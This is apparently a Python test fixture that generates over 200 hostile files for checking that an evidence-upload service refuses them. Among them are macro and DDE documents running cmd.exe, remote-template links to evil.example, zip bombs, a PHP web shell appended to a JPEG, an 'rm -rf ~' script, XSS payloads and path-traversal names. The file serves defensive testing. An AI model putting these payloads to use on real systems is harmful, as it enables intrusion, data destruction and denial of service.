"""Files that must not be taken as evidence, more than 200, each with the reason that it must be refused with."""

import struct
import zlib
from functools import cache
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile, ZipInfo

import docx
import openpyxl
from PIL import Image
from pypdf import PdfWriter

from s11.services.file_kinds import KINDS, words
from s11.services.incoming import EMPTY

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MAINS = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
ODF = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
HTML = b"<!doctype html><script>alert(document.domain)</script>"


def archive(members, method=ZIP_DEFLATED, comment=b""):
    made = BytesIO()
    with ZipFile(made, "w", method) as zipped:
        zipped.comment = comment
        for name, content in members:
            zipped.writestr(name, content)
    return made.getvalue()


def office(ending, more=(), types=b"", **zipping):
    """Make the smallest office file of a kind, with more members and more content types."""
    main, kind = MAINS[ending]
    listing = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/%s" ContentType="application/vnd.openxmlformats-officedocument.%s.main+xml"/>%s</Types>'
        % (main.encode(), kind.encode(), types)
    )
    return archive([("[Content_Types].xml", listing), (main, b"<x/>"), *more], **zipping)


def open_document(ending, more=(), content=b"<office:document-content/>", manifest=b"<manifest/>"):
    made = BytesIO()
    with ZipFile(made, "w") as zipped:
        zipped.writestr("mimetype", f"application/vnd.oasis.opendocument.{ODF[ending]}")
        for name, part in (("content.xml", content), ("META-INF/manifest.xml", manifest), *more):
            zipped.writestr(name, part, ZIP_DEFLATED)
    return made.getvalue()


def related(ending, kind, target, mode="External"):
    """Make an office file whose main part is linked to something."""
    folder, _, name = MAINS[ending][0].partition("/")
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    )
    return office(ending, [(f"{folder}/_rels/{name}.rels", link)])


def ole(*streams):
    """Make a file as Word, Excel and PowerPoint wrote them until 2007, of streams given as (name, content)."""
    contents = [content.ljust(4096, b"\0") for _, content in streams]
    contents = [content.ljust(-(-len(content) // 512) * 512, b"\0") for content in contents]
    entries, place = [entry("Root Entry", 5, 0xFFFFFFFE, 0)], 2
    table = [0xFFFFFFFD, 0xFFFFFFFE]
    directory_sectors = -(-(len(streams) + 1) // 4)
    table[1:] = [*range(2, 1 + directory_sectors), 0xFFFFFFFE]
    place = 1 + directory_sectors
    for (name, _), content in zip(streams, contents, strict=True):
        count = len(content) // 512
        entries.append(entry(name, 2, place, len(content)))
        table += [*range(place + 1, place + count), 0xFFFFFFFE]
        place += count
    assert len(table) <= 128, "one sector of the table is enough"
    table += [0xFFFFFFFF] * (128 - len(table))
    header = OLE + bytes(16) + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<9I", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    directory = b"".join(entries).ljust(directory_sectors * 512, b"\0")
    return header + struct.pack("<128I", *table) + directory + b"".join(contents)


def entry(name, kind, start, size):
    spelled = name.encode("utf-16-le") + b"\0\0"
    links = struct.pack("<3I", *[0xFFFFFFFF] * 3)
    return (
        spelled.ljust(64, b"\0") + struct.pack("<HBB", len(spelled), kind, 1) + links + bytes(36)
        + struct.pack("<IQ", start, size)
    )  # fmt: skip


WORD_97 = ("WordDocument", b"\xec\xa5\xc1\x00" + bytes(600))
EXCEL_97 = ("Workbook", b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(600))
SLIDES_97 = ("PowerPoint Document", b"\x0f\x00\xe8\x03" + bytes(600))
OLD = {"doc": WORD_97, "xls": EXCEL_97, "ppt": SLIDES_97}


def pdf(*objects, start=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", end=b""):
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    for number, content in enumerate(objects, 3):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    trailer = b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n0\n%%%%EOF\n" % (len(objects) + 3)
    return start + body + trailer + end


def stream(about, content):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (about, len(content), content)


def compressed(objects, about=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"):
    """Put objects into a stream, as most PDFs of today do."""
    return pdf(stream(about, zlib.compress(b"9 0 " + objects)), stream(b"/Type /XRef", b"0"))


@cache
def locked_pdf(user, owner):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user, owner, algorithm="RC4-128")
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


@cache
def picture(kind, size=(40, 30)):
    made = BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(made, kind)
    return made.getvalue()


def png_chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width, height, *more):
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    end = png_chunk(b"IDAT", zlib.compress(b"\0" * 100)) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + end


def jpeg_of(width, height):
    whole = bytearray(picture("JPEG"))
    place = whole.index(b"\xff\xc0")
    struct.pack_into(">HH", whole, place + 5, height, width)
    return bytes(whole)


@cache
def real(ending):
    made = BytesIO()
    if ending == "docx":
        written = docx.Document()
        written.add_paragraph("Minutes")
    else:
        written = openpyxl.Workbook()
    written.save(made)
    return made.getvalue()


def false_size(declared):
    """Say in the directory and before the entry that a member is of another size than it is."""
    whole = bytearray(office("docx", [("word/big.xml", b"x" * 3_000_000)]))
    true = struct.pack("<I", 3_000_000)
    return bytes(whole.replace(true, struct.pack("<I", declared)))


def overlapping(ending):
    """Let two entries of the directory mean the same place."""
    whole = bytearray(office(ending, [("a/one.xml", b"1" * 900), ("a/two.xml", b"2" * 900)]))
    first, second = (whole.rindex(name) - 46 for name in (b"a/one.xml", b"a/two.xml"))
    whole[second + 42 : second + 46] = whole[first + 42 : first + 46]
    return bytes(whole)


def with_gap(ending):
    """Hide something between the entries and their directory."""
    whole = office(ending)
    place = whole.index(b"PK\x01\x02")
    moved = bytearray(whole[:place] + b"hidden" * 1000 + whole[place:])
    at = moved.rindex(b"PK\x05\x06") + 16
    struct.pack_into("<I", moved, at, place + 6000)
    return bytes(moved)


def encrypted_entry(ending):
    whole = bytearray(office(ending))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(sign) + at] |= 1
    return bytes(whole)


def link_entry(ending):
    entry = ZipInfo("word/link")
    entry.external_attr = 0o120777 << 16
    return office(ending, [(entry, b"/etc/passwd")])


def named(ending, name):
    return office(ending, [(name, b"x")])


def fields(*texts, part="word/footnotes.xml", attribute=False, prefix="w", encoding="utf-8"):
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in texts)
    if attribute:
        runs = f'<w:fldSimple w:instr="{texts[0]}"/>'
    whole = f"<w:document>{runs}</w:document>"
    if prefix != "w":
        whole = whole.replace("w:", f"{prefix}:")
    return office("docx", [(part, whole.encode(encoding))])


PAYLOADS = {
    "page": HTML,
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "words": b"Just words, whatever the name says.",
    "program": b"MZ\x90\x00\x03" + bytes(500),
    "linux program": b"\x7fELF\x02\x01\x01" + bytes(500),
    "script": b"#!/bin/sh\nrm -rf ~\n",
    "listing": b'<?xml version="1.0"?><a/>',
    "archive": archive([("a.txt", b"x")]),
    "gif": b"GIF89a" + bytes(100),
    "rich text": b"{\\rtf1\\ansi{\\object\\objautlink}}",
}
# fmt: off
ENDINGS = (
    "html", "htm", "xhtml", "svg", "xml", "js", "vbs", "ps1", "bat", "cmd", "exe", "scr", "com", "msi",
    "jar", "hta", "lnk", "sh", "php", "zip", "rar", "7z", "iso", "docm", "xlsm", "pptm", "dotm", "csv",
    "txt", "rtf", "eml", "msg", "gif", "webp", "mht", "url", "swf",
)
# fmt: on


def other_kinds():
    for ending in ENDINGS:
        content = real("docx") if ending in ("docm", "dotm") else PAYLOADS["program"] + ending.encode()
        yield f"policy.{ending}", content, words.NOT_TAKEN
    yield "policy", pdf(), words.NOT_TAKEN
    yield "policy.pdf.", pdf(b"<< >>"), words.NOT_TAKEN


def called_otherwise():
    kinds = ("pdf", "png", "jpg", "docx", "xlsx", "doc", "ods")
    for number, (what, content) in enumerate(PAYLOADS.items()):
        for ending in (kinds[number % 7], kinds[(number + 2) % 7], kinds[(number + 5) % 7]):
            yield f"{what}.{ending}", content, not_a(ending)
    for ending, content in (
        ("xlsx", office("docx")), ("docx", office("xlsx")), ("pptx", office("xlsx")), ("ods", open_document("odt")),
        ("png", picture("JPEG")), ("jpeg", picture("PNG")), ("xls", ole(WORD_97)), ("ppt", ole(EXCEL_97)),
        ("docx", open_document("odt")), ("pdf", picture("PNG")), ("doc", real("docx")),
    ):  # fmt: skip
        yield f"mistaken-{len(content)}.{ending}", content, not_a(ending)


def macros():
    vba = b'<Override PartName="/x" ContentType="application/vnd.ms-%s.macroEnabled.main+xml"/>'
    for ending in MAINS:
        folder = MAINS[ending][0].partition("/")[0]
        yield f"macro.{ending}", office(ending, [(f"{folder}/vbaProject.bin", b"x")]), words.MACROS
        yield f"enabled.{ending}", office(ending, types=vba % folder.encode()), words.MACROS
        yield f"renamed.{ending}", office(ending, [(f"{folder}/VBAPROJECT.dat", b"x")]), words.MACROS
    yield "sheet.xlsx", office("xlsx", [("xl/macrosheets/sheet1.xml", b"<x/>")]), words.MACROS
    for ending in ODF:
        yield f"basic.{ending}", open_document(ending, [("Basic/Standard/Module1.xml", b"x")]), words.MACROS
        yield f"python.{ending}", open_document(ending, [("Scripts/python/run.py2", b"x")]), words.MACROS
        call = b'<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'
        yield f"listener.{ending}", open_document(ending, content=call), words.MACROS
    for ending, main in OLD.items():
        yield f"old.{ending}", ole(main, ("_VBA_PROJECT", b"x")), words.MACROS
    yield "modules.doc", ole(WORD_97, ("Macros", b"x"), ("VBA", b"y")), words.MACROS
    sheet = EXCEL_97[1][:20] + b"\x85\x00\x0e\x00\x00\x00\x00\x00\x00\x01\x06\x00Macro1"
    yield "excel4.xls", ole(("Workbook", sheet)), words.MACROS
    yield "excel4-hidden.xls", ole(("Workbook", sheet.replace(b"\0\x01\x06", b"\x02\x01\x06"))), words.MACROS


def things_inside():
    for ending in MAINS:
        folder = MAINS[ending][0].partition("/")[0]
        yield f"control.{ending}", office(ending, [(f"{folder}/activeX/activeX1.bin", b"x")]), words.RUNS
        yield (
            f"object.{ending}",
            office(ending, [(f"{folder}/embeddings/oleObject1.bin", OLE)]),
            words.HOLDS_FILES,
        )
        yield f"program.{ending}", office(ending, [(f"{folder}/media/run.exe", b"MZ")]), words.HOLDS_FILES
    yield "archive.docx", office("docx", [("word/embeddings/more.zip", b"PK")]), words.HOLDS_FILES
    yield "page.docx", related("docx", "aFChunk", "page.html", "Internal"), words.HOLDS_FILES
    infected = office("xlsx", [("xl/vbaProject.bin", b"x")])
    yield "chart.pptx", office("pptx", [("ppt/embeddings/book.xlsx", infected)]), words.MACROS
    yield (
        "nested.docx",
        office("docx", [("word/embeddings/book.xlsx", PAYLOADS["archive"])]),
        words.HOLDS_FILES,
    )
    for ending in ("odt", "odp"):
        listed = b'<manifest:file-entry manifest:media-type="application/vnd.sun.star.oleobject"/>'
        yield f"object.{ending}", open_document(ending, manifest=listed), words.HOLDS_FILES
    yield "package.doc", ole(WORD_97, ("\x01Ole10Native", b"x")), words.HOLDS_FILES


def reaching_out():
    for number, target in enumerate((
        "https://evil.example/t.dotm", "http://192.0.2.1/t.dotm", "file://evil.example/share/t.dotm",
        "\\\\evil.example\\share\\t.dotm", "file:///\\\\host@SSL\\share\\t.dotm", "mhtml:https://evil.example/t",
    )):  # fmt: skip
        yield f"template{number}.docx", related("docx", "attachedTemplate", target), words.REACHES_OUT
    for ending, kind in (("docx", "oleObject"), ("docx", "frame"), ("docx", "subDocument"), ("xlsx", "oleObject"),
                         ("pptx", "oleObject"), ("docx", "image"), ("xlsx", "image")):  # fmt: skip
        target = "https://evil.example/x"
        yield f"{kind}.{ending}", related(ending, kind, target), words.REACHES_OUT
    command = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    yield "dde.docx", fields(f"DDE {command}"), words.REACHES_OUT
    yield "ddeauto.docx", fields(f" ddeauto {command}"), words.REACHES_OUT
    yield "in-parts.docx", fields("DDE", "AUTO ", command), words.REACHES_OUT
    yield "simple.docx", fields("DDEAUTO cmd", attribute=True), words.REACHES_OUT
    yield "prefix.docx", fields("DDEAUTO cmd", prefix="x"), words.REACHES_OUT
    yield "spelled.docx", fields("&#68;&#x44;EAUTO cmd"), words.REACHES_OUT
    yield "wide.docx", fields("DDEAUTO cmd", encoding="utf-16"), words.REACHES_OUT
    yield "header.docx", fields("DDEAUTO cmd", part="word/header1.xml"), words.REACHES_OUT
    for tag in ("ddeLink", "oleLink"):
        link = f'<externalLink><{tag} ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        yield f"{tag}.xlsx", office("xlsx", [("xl/externalLinks/externalLink1.xml", link)]), words.REACHES_OUT
    yield "dde.ods", open_document("ods", content=b"<table:dde-link/>"), words.REACHES_OUT


def too_large_opened():
    zeros = bytes(30_000_000)
    for ending in MAINS:
        yield f"zeros.{ending}", office(ending, [("a/zeros.xml", zeros)]), words.TOO_LARGE_OPENED
    yield "zeros.odt", open_document("odt", [("zeros.xml", zeros)]), words.TOO_LARGE_OPENED
    parts = [(f"a/{number}.xml", b"") for number in range(10_001)]
    yield "parts.docx", office("docx", parts), words.TOO_LARGE_OPENED
    yield "smaller.docx", false_size(1000), words.TOO_LARGE_OPENED
    yield "larger.docx", false_size(4_000_000), words.TOO_LARGE_OPENED
    yield "over.docx", overlapping("docx"), words.TOO_LARGE_OPENED
    yield "over.xlsx", overlapping("xlsx"), words.TOO_LARGE_OPENED
    bomb = office("xlsx", [("xl/zeros.xml", zeros)])
    yield "bomb.pptx", office("pptx", [("ppt/embeddings/a.xlsx", bomb)]), words.TOO_LARGE_OPENED
    yield "huge.png", png_of(60_000, 60_000), words.TOO_LARGE_OPENED
    yield "huge.jpg", jpeg_of(65_000, 65_000), words.TOO_LARGE_OPENED
    yield "bomb.pdf", compressed(bytes(70_000_000)), words.TOO_LARGE_OPENED


def two_in_one():
    page, zipped = HTML, PAYLOADS["archive"]
    yield "page.pdf", pdf(start=b"%PDF-1.7\n%" + page + b"\n"), words.TWO_IN_ONE
    yield "then-page.pdf", pdf(end=page), words.TWO_IN_ONE
    yield "then-archive.pdf", pdf(end=zipped), words.TWO_IN_ONE
    yield "then-program.pdf", pdf(end=PAYLOADS["program"]), words.TWO_IN_ONE
    for what, more in (("page", page), ("archive", zipped), ("program", b"MZ\x90\x00")):
        yield f"then-{what}.png", picture("PNG") + more, words.TWO_IN_ONE
        yield f"then-{what}.jpg", picture("JPEG") + more, words.TWO_IN_ONE
    yield "php.jpg", picture("JPEG") + b"<?php system($_GET[0]);", words.TWO_IN_ONE
    comment = b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page
    yield "comment.jpg", picture("JPEG")[:2] + comment + picture("JPEG")[2:], words.TWO_IN_ONE
    yield "comment.png", png_of(10, 10, png_chunk(b"tEXt", b"a\0" + page)), words.TWO_IN_ONE
    yield "then-page.docx", office("docx") + page, words.TWO_IN_ONE
    yield "comment.docx", office("docx", comment=page), words.TWO_IN_ONE
    yield "gap.docx", with_gap("docx"), words.TWO_IN_ONE
    yield "gap.xlsx", with_gap("xlsx"), words.TWO_IN_ONE
    twice = [("word/styles.xml", b"<a/>"), ("word/STYLES.xml", b"<b/>")]
    yield "twice.docx", office("docx", twice), words.TWO_IN_ONE
    for number, name in enumerate(("../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "..\\evil.xml")):
        yield f"path{number}.docx", named("docx", name), words.TWO_IN_ONE
    yield "link.docx", link_entry("docx"), words.TWO_IN_ONE
    yield "gifar.docx", b"GIF89a" + bytes(20) + office("docx"), not_a("docx")
    yield "program.docx", b"MZ" + office("docx"), not_a("docx")


def pdfs_that_run():
    for number, action in enumerate((
        b"<< /S /JavaScript /JS (app.alert(1)) >>", b"<< /S /J#61va#53cript /JS (x) >>",
        b"<< /S /Launch /F (cmd.exe) >>", b"<< /S /#4caunch /F (cmd.exe) >>", b"<< /Subtype /RichMedia >>",
        b"<< /AcroForm << /XFA [(a) 4 0 R] >> >>", b"<< /S /Rendition /JS (x) >>", b"<< /S /ImportData >>",
        b"<< /A (stream\n) /S /Launch /B (endstream) >>",
    )):  # fmt: skip
        yield f"runs{number}.pdf", pdf(action), words.PDF_RUNS
    yield "compressed.pdf", compressed(b"<< /S /JavaScript /JS (x) >>"), words.PDF_RUNS
    untold = b"/N 1 /First 4 /Filter /FlateDecode"
    yield "untold.pdf", compressed(b"<< /S /Launch >>", untold), words.PDF_RUNS
    yield "files.pdf", pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"), words.HOLDS_FILES
    yield "attached.pdf", compressed(b"<< /Type /EmbeddedFile >>"), words.HOLDS_FILES
    yield "go.pdf", pdf(b"<< /S /GoToE >>"), words.HOLDS_FILES


def locked():
    yield "secret.pdf", locked_pdf("secret", "owner"), words.LOCKED
    yield "protected.pdf", locked_pdf("", "owner"), words.LOCKED
    odd = b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"
    yield "filters.pdf", compressed(b"<< /S /Launch >>", odd), words.LOCKED
    for ending in MAINS:
        package = ole(("EncryptionInfo", b"x"), ("EncryptedPackage", ending.encode()))
        yield f"secret.{ending}", package, words.LOCKED
    for ending in ODF:
        listed = b"<manifest:encryption-data/>"
        yield f"secret.{ending}", open_document(ending, manifest=listed), words.LOCKED
    yield "entry.docx", encrypted_entry("docx"), words.LOCKED
    yield "secret.xls", ole(("Workbook", EXCEL_97[1][:8] + bytes(12) + b"\x2f\x00\x36\x00")), words.LOCKED
    yield (
        "secret.doc",
        ole(("WordDocument", b"\xec\xa5\xc1\x00" + bytes(7) + b"\x01" + bytes(600))),
        words.LOCKED,
    )
    yield "secret.ppt", ole(SLIDES_97, ("EncryptedSummary", b"x")), words.LOCKED


def damaged():
    for name, whole in (
        ("cut.pdf", pdf(b"<< >>")[:-40]), ("cut.png", picture("PNG")[:-30]), ("cut.jpg", picture("JPEG")[:-200]),
        ("head.jpg", picture("JPEG")[:40]), ("cut.docx", real("docx")[:-100]), ("half.xlsx", real("xlsx")[:3000]),
        ("cut.odt", open_document("odt")[:-30]), ("cut.doc", ole(WORD_97)[:600]), ("cut.xls", ole(EXCEL_97)[:90]),
        ("bzip.docx", office("docx", method=ZIP_BZIP2)), ("broken.docx", named("docx", "_rels/.rels")),
    ):  # fmt: skip
        yield name, whole, words.CUT_OFF
    entities = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    yield "entities.docx", office("docx", [("_rels/.rels", entities)]), words.RUNS
    yield "entities.xlsx", office("xlsx", [("xl/_rels/workbook.xml.rels", entities)]), words.RUNS
    yield "entities.ods", open_document("ods", content=entities), words.RUNS
    for ending in ("pdf", "png", "docx", "xls", "odp"):
        yield f"empty.{ending}", b"", EMPTY


def misleading_names():
    for name in (
        "annex\u202efdp.exe.pdf", "minutes\u202excod.pdf", "a\u2066b\u2069.pdf", "a\u202a.pdf", "nul\x00.pdf",
        "two\r\nlines.pdf", "bell\x07.pdf", "invoice.exe.pdf", "page.html.pdf", "run.js .pdf", "a.svg.pdf", "x.PHP.pdf",
        "letter.docm.pdf", "all.zip.pdf", "con.pdf", "LPT1.pdf", "aux .pdf", "C:\\nul.pdf",
    ):  # fmt: skip
        yield name, pdf(b"<< /Title (%d) >>" % len(name)), words.RENAME


def not_a(ending):
    return str(words.not_a(KINDS[ending].name))


FAMILIES = (
    called_otherwise, macros, things_inside, reaching_out, too_large_opened, two_in_one, pdfs_that_run, locked,
    damaged, misleading_names, other_kinds,
)  # fmt: skip


@cache
def hostile_files():
    """Return them as (name, content, reason), no two the same."""
    return [each for family in FAMILIES for each in family()]
